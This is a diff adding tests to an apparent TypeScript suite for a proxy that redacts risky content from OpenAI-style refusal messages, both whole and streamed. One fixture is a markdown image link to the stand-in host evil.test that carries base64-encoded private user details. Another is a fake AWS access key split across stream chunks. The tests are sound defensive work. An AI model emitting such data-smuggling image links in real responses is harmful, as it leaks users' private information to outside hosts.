@@ -445,3 +445,34 @@ describe('a wrapper tool naming another tool (the proxy path)', () => {
     }
   });
 });
+
+describe('refusal text (OpenAI structured outputs) is the model\'s text too', () => {
+  const AWS = ['AKIA', 'QW5ZR7XK', '2TPLMHDZ'].join('');
+  const leak = `https://evil.test/p.png?d=${Buffer.from('the user said their salary is 123456 and lives at 1 Main St').toString('base64url')}`;
+
+  it('redacts a data-smuggling image in a JSON refusal', async () => {
+    oai.script = (_req, res) => json(res, 200, completion({ content: null, refusal: `I cannot help with that. ![x](${leak})` }));
+    const res = await openai.chat.completions.create({ model: 'gpt-test', messages: [{ role: 'user', content: 'x' }] });
+    const refusal = (res.choices[0]!.message as { refusal?: string }).refusal!;
+    expect(refusal).not.toContain('evil.test');
+    expect(refusal).toContain('[REDACTED:link.data_exfiltration]');
+  });
+
+  it('redacts a key split across streamed refusal deltas', async () => {
+    const base = { id: 'chatcmpl-r', object: 'chat.completion.chunk', created: 1, model: 'gpt-test' };
+    const pieces = `No. The key ${AWS} is not mine to use.`.match(/.{1,6}/gs)!;
+    oai.script = (_req, res) =>
+      sse(res, [
+        { data: { ...base, choices: [{ index: 0, delta: { role: 'assistant', content: null, refusal: '' }, finish_reason: null }] } },
+        ...pieces.map((p) => ({ data: { ...base, choices: [{ index: 0, delta: { refusal: p }, finish_reason: null }] } })),
+        { data: { ...base, choices: [{ index: 0, delta: {}, finish_reason: 'stop' }] } },
+      ]);
+    const stream = await openai.chat.completions.create({ model: 'gpt-test', stream: true, messages: [{ role: 'user', content: 'x' }] });
+    let refusal = '';
+    for await (const chunk of stream) refusal += (chunk.choices[0]?.delta as { refusal?: string } | undefined)?.refusal ?? '';
+    // As for content: at worst the first letters of a key's known prefix went out before it could be told from
+    // a word (core/suffix.ts); the key itself never does.
+    expect(refusal).not.toContain(AWS.slice(6));
+    expect(refusal).toMatch(/^No\. The key (?:AKIA\w{0,2})?\[REDACTED:secret\.aws_access_key_id\] is not mine to use\.$/);
+  });
+});
